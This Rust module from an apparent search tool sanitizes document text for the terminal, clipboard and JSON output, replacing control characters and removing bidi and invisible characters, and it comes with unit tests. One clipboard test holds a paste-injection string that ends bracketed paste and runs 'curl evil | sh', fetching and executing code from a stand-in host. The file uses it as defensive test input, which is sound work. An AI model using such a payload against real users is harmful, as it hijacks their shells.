//! Display sanitizing: no document or query text may drive the terminal.
//!
//! A document can contain anything: ESC sequences that recolour the screen or move the
//! cursor, carriage returns, backspaces, C1 controls (U+009B is a one-character CSI on some
//! terminals) and invisible bidi formatting characters (U+202E can flip the rest of a screen
//! line in a terminal that runs its own bidi; see "Trojan Source"). Before any text reaches
//! the screen each character goes through [`shown_as`]:
//!
//! * TAB → one space: no tab stops in a reordered line; the width stays one cell.
//! * other C0 controls (U+0000–U+001F) → their control picture, U+2400 + code (ESC → `␛`,
//!   LF → `␊`): visible, one cell, inert.
//! * DEL → `␡` (U+2421).
//! * C1 controls (U+0080–U+009F) → `�` (U+FFFD): Unicode has no pictures for them.
//! * U+2028 and U+2029 (line and paragraph separators) → `␤` (U+2424): some terminals break
//!   the line on them.
//! * bidi formatting characters (U+202A–U+202E, U+2066–U+2069, LRM, RLM, ALM) → nothing:
//!   they have no glyph, and the layout has already applied them.
//! * invisible characters that terminals draw at a width other than `unicode-width`'s
//!   (so sanad's and ratatui's), or print as they are ([`is_invisible`]) → nothing: the
//!   interlinear annotation marks U+FFF9–U+FFFB (1 cell here, 0 in terminals), the soft
//!   hyphen U+00AD (0 here, 1 in glibc's `wcwidth`), the Hangul fillers U+3164 and U+FFA0
//!   (0 here, 2 and 1 there), the tag characters U+E0000–U+E007F (an emoji tag sequence
//!   keeps its base, a black flag), and the zero-width U+200B, U+2060–U+2064, U+FEFF,
//!   U+180E and U+206A–U+206F. Dropping them keeps every row's width true on every
//!   terminal; the JSON output keeps them (as `\u` escapes).
//! * ZWJ (U+200D) → nothing, except where it joins two characters into one grapheme
//!   cluster (an emoji ZWJ sequence, UAX #29 rule GB11; an Indic conjunct, GB9c): there it
//!   is kept and the cluster is measured whole ([`push_shown_cluster`]). A ZWJ asking an
//!   Arabic letter for its joining form is dropped too; with `--shape on` the form is
//!   chosen from the text before it is dropped.
//! * ZWNJ (U+200C) → itself: Persian and Arabic spelling needs it, it has no width, and
//!   terminals agree.
//! * anything else → itself.
//!
//! In the layout a CR LF pair, which is one grapheme, becomes the single picture `␤`, so that
//! every cell still draws exactly one grapheme.
//!
//! The layout ([`super::layout`]) applies the same table per grapheme, so logical byte
//! offsets stay those of the original text, and measures each cell's width on what is
//! shown; [`visible_controls`] applies it to a whole string for text that is printed
//! without the layout (status bar, file names, CLI output).

use std::borrow::Cow;
use std::io;

use unicode_segmentation::UnicodeSegmentation;

/// What one character becomes on screen.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shown {
    /// Printed as it is.
    Same,
    /// Printed as this stand-in.
    As(char),
    /// Not printed at all (zero-width formatting character).
    Hidden,
}

/// Stand-in for C1 controls, which have no control picture.
const C1_STAND_IN: char = '\u{FFFD}';
/// Stand-in for the Unicode line and paragraph separators, and for CR LF in the layout.
pub(crate) const NEWLINE_PICTURE: char = '\u{2424}';
/// Control picture of DEL.
const DEL_PICTURE: char = '\u{2421}';

/// How `c` is shown on screen; see the module table.
#[inline]
pub fn shown_as(c: char) -> Shown {
    match c {
        // Printable ASCII and the Arabic letters, marks and digits after
        // ARABIC LETTER MARK: nearly every char of a corpus, at once.
        ' '..='~' | '\u{0621}'..='\u{06FF}' => Shown::Same,
        '\t' => Shown::As(' '),
        '\u{0}'..='\u{1F}' => Shown::As(c0_picture(c)),
        '\u{7F}' => Shown::As(DEL_PICTURE),
        '\u{80}'..='\u{9F}' => Shown::As(C1_STAND_IN),
        '\u{2028}' | '\u{2029}' => Shown::As(NEWLINE_PICTURE),
        c if is_bidi_format(c) || is_invisible(c) || c == ZWJ => Shown::Hidden,
        _ => Shown::Same,
    }
}

/// True for the explicit bidi formatting characters and the implicit marks.
pub fn is_bidi_format(c: char) -> bool {
    matches!(
        c,
        '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}'
    )
}

/// ZERO WIDTH JOINER, kept only where it joins ([`push_shown_cluster`]).
const ZWJ: char = '\u{200D}';

/// True for the invisible characters the display filter drops (see the module table):
/// terminals give them another width than sanad does, or print them unseen.
pub fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{180E}'
            | '\u{200B}'
            | '\u{2060}'..='\u{2064}'
            | '\u{206A}'..='\u{206F}'
            | '\u{3164}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF9}'..='\u{FFFB}'
            | '\u{E0000}'..='\u{E007F}'
    )
}

/// Appends what the grapheme `cluster` is shown as to `out`: each char as `glyph` draws it
/// (shaped or mirrored by the layout), through the module table, but a ZWJ that joins the
/// char after it into this cluster is kept.
pub(crate) fn push_shown_cluster(
    out: &mut String,
    cluster: &str,
    glyph: impl Fn(usize, char) -> char,
) {
    let mut chars = cluster.chars().enumerate().peekable();
    while let Some((index, c)) = chars.next() {
        if c == ZWJ && chars.peek().is_some_and(|&(_, next)| zwj_joins(next)) {
            out.push(ZWJ);
        } else {
            push_shown(out, glyph(index, c));
        }
    }
}

/// True if `next`, following a ZWJ in the same grapheme cluster, is there because the ZWJ
/// joins it (GB11, GB9c) and not because it is itself a mark or a joiner (GB9, GB9a): after
/// a plain letter and a ZWJ, only the latter would stay in the cluster.
fn zwj_joins(next: char) -> bool {
    let mut probe = [0u8; 8];
    let mut len = 0;
    for c in ['a', ZWJ, next] {
        len += c.encode_utf8(&mut probe[len..]).len();
    }
    std::str::from_utf8(&probe[..len]).is_ok_and(|s| s.graphemes(true).nth(1).is_some())
}

/// The U+2400 block picture for a C0 control (`c` ≤ U+001F).
fn c0_picture(c: char) -> char {
    char::from_u32(0x2400 + u32::from(c)).unwrap_or(C1_STAND_IN)
}

/// `s` with every control character made visible and every bidi formatting and
/// invisible character removed, per the module table (cluster by cluster, so a ZWJ
/// that joins stays). Borrows when nothing needs replacing.
///
/// ```
/// use sanad::bidi::visible_controls;
/// assert_eq!(visible_controls("a\u{1b}[31mb"), "a\u{241b}[31mb");
/// assert_eq!(visible_controls("a\tb"), "a b");
/// assert_eq!(visible_controls("\u{202e}abc"), "abc");
/// assert!(matches!(visible_controls("سلام"), std::borrow::Cow::Borrowed(_)));
/// ```
pub fn visible_controls(s: &str) -> Cow<'_, str> {
    if s.chars().all(|c| shown_as(c) == Shown::Same) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for cluster in s.graphemes(true) {
        push_shown_cluster(&mut out, cluster, |_, c| c);
    }
    Cow::Owned(out)
}

/// `s` made safe to put on the clipboard: every character through the display
/// filter ([`shown_as`]), except `\n`, which is kept so that a copied passage and
/// its citation line stay on their own lines. A document line holding
/// `ESC [201~ CR command CR` would otherwise end a shell's bracketed paste and
/// run the command when the copy is pasted; here it is inert pictures.
/// Borrows when nothing needs replacing.
///
/// ```
/// use sanad::bidi::sanitize::clipboard_text;
/// assert_eq!(clipboard_text("a\u{1b}[201~\rls\r\nb"), "a\u{241b}[201~\u{240d}ls\u{240d}\nb");
/// ```
pub fn clipboard_text(s: &str) -> Cow<'_, str> {
    let lines: Vec<Cow<'_, str>> = s.split('\n').map(visible_controls).collect();
    if lines.iter().all(|line| matches!(line, Cow::Borrowed(_))) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(lines.join("\n"))
}

/// Writes `s` with each character that could steer a terminal as a JSON `\u`
/// escape (two, a surrogate pair, past the Basic Multilingual Plane): DEL, C1
/// controls, bidi formatting characters, the line separators and the invisible
/// characters, which `serde_json` leaves raw (it escapes only C0). The JSON
/// means exactly the same, but `sanad search --json` on a terminal can no
/// longer send U+009B, a one-character CSI, or flip a line with U+202E. The
/// JSON writer (`crate::output::json`) calls it on each string as it is written.
pub fn write_inert<W: io::Write + ?Sized>(out: &mut W, s: &str) -> io::Result<()> {
    let bytes = s.as_bytes();
    let (mut plain, mut at) = (0, 0);
    while at < bytes.len() {
        // Printable ASCII and U+0621–U+06FF (lead byte D8 with A1 or more,
        // or D9–DB) are nearly every byte of a corpus, and never steer.
        match bytes[at..] {
            [b, ..] if b < 0x7f => at += 1,
            [0xD8, b, ..] if b >= 0xA1 => at += 2,
            [0xD9..=0xDB, _, ..] => at += 2,
            _ => {
                let c = s[at..].chars().next().unwrap_or_default();
                if steers(c) {
                    out.write_all(&bytes[plain..at])?;
                    let mut units = [0u16; 2];
                    for unit in c.encode_utf16(&mut units) {
                        write!(out, "\\u{unit:04x}")?;
                    }
                    plain = at + c.len_utf8();
                }
                at += c.len_utf8().max(1);
            }
        }
    }
    out.write_all(&bytes[plain..])
}

/// True for a character JSON output must escape: one the display filter
/// would not show as it is, past the C0 controls JSON escapes itself.
#[inline]
fn steers(c: char) -> bool {
    c >= '\u{7f}' && shown_as(c) != Shown::Same
}

/// Appends what `c` is shown as to `out`.
fn push_shown(out: &mut String, c: char) {
    match shown_as(c) {
        Shown::Same => out.push(c),
        Shown::As(stand_in) => out.push(stand_in),
        Shown::Hidden => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_chars_shown_at_once_are_those_the_full_rules_show_as_they_are() {
        for c in (' '..='~').chain('\u{0621}'..='\u{06FF}') {
            let hidden = is_bidi_format(c) || is_invisible(c) || c == ZWJ;
            let replaced = c.is_control() || matches!(c, '\u{2028}' | '\u{2029}');
            assert!(!hidden && !replaced, "U+{:04X}", u32::from(c));
            assert_eq!(shown_as(c), Shown::Same);
        }
        assert_eq!(shown_as('\u{061C}'), Shown::Hidden, "ARABIC LETTER MARK");
    }

    #[test]
    fn json_escapes_exactly_the_chars_that_steer() {
        for c in (0..=0x10FFFFu32).filter_map(char::from_u32) {
            let mut out = Vec::new();
            let s = format!("a{c}b");
            write_inert(&mut out, &s).unwrap();
            let escaped = out != s.as_bytes();
            assert_eq!(escaped, steers(c), "U+{:04X}", u32::from(c));
        }
    }

    #[test]
    fn escape_sequences_become_inert_text() {
        assert_eq!(
            visible_controls("\u{1b}[2J\u{1b}[H"),
            "\u{241b}[2J\u{241b}[H"
        );
    }

    #[test]
    fn every_c0_and_c1_control_is_replaced() {
        for code in (0u32..0x20).chain(0x7F..0xA0) {
            let c = char::from_u32(code).unwrap_or(' ');
            let shown = visible_controls(&c.to_string()).into_owned();
            assert!(
                !shown.chars().any(char::is_control),
                "U+{code:04X} -> {shown:?}"
            );
            assert_eq!(shown.chars().count(), 1, "U+{code:04X}");
        }
    }

    #[test]
    fn newline_and_carriage_return_are_pictures() {
        assert_eq!(visible_controls("a\r\nb"), "a\u{240d}\u{240a}b");
    }

    #[test]
    fn bidi_formatting_is_removed() {
        assert_eq!(visible_controls("\u{2067}abc\u{2069}\u{200f}"), "abc");
    }

    #[test]
    fn clipboard_text_keeps_only_newlines() {
        let pasted = "passage \u{1b}[201~\rcurl evil | sh\r\u{202e}\t\u{9b}\n— a\u{1b}.txt";
        let safe = clipboard_text(pasted);
        assert!(
            !safe.chars().any(|c| c.is_control() && c != '\n'),
            "{safe:?}"
        );
        assert!(!safe.chars().any(is_bidi_format), "{safe:?}");
        assert_eq!(safe.lines().count(), 2);
        assert!(matches!(clipboard_text("سلام\n— a.txt"), Cow::Borrowed(_)));
    }

    #[test]
    fn invisible_characters_are_removed() {
        let text = "a\u{ad}b\u{200b}c\u{2060}d\u{feff}e\u{fff9}f\u{3164}g\u{e0041}h\u{200d}i";
        assert_eq!(visible_controls(text), "abcdefghi");
        // A tag sequence keeps its base; ZWNJ stays.
        let scotland = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}";
        assert_eq!(visible_controls(scotland), "\u{1f3f4}");
        assert!(matches!(
            visible_controls("می\u{200c}خواهم"),
            Cow::Borrowed(_)
        ));
    }

    #[test]
    fn zwj_stays_only_where_it_joins() {
        assert!(zwj_joins('\u{1f469}'));
        assert!(!zwj_joins('\u{64e}'));
        assert!(!zwj_joins(ZWJ));
        let couple = "\u{1f469}\u{200d}\u{2764}\u{fe0f}\u{200d}\u{1f468}";
        assert_eq!(visible_controls(couple), couple);
        assert_eq!(visible_controls("\u{1f469}\u{200d}"), "\u{1f469}");
        assert_eq!(visible_controls("ب\u{200d}ب"), "بب");
    }

    #[test]
    fn plain_arabic_is_borrowed() {
        assert!(matches!(visible_controls("وفقًا [3]"), Cow::Borrowed(_)));
    }
}
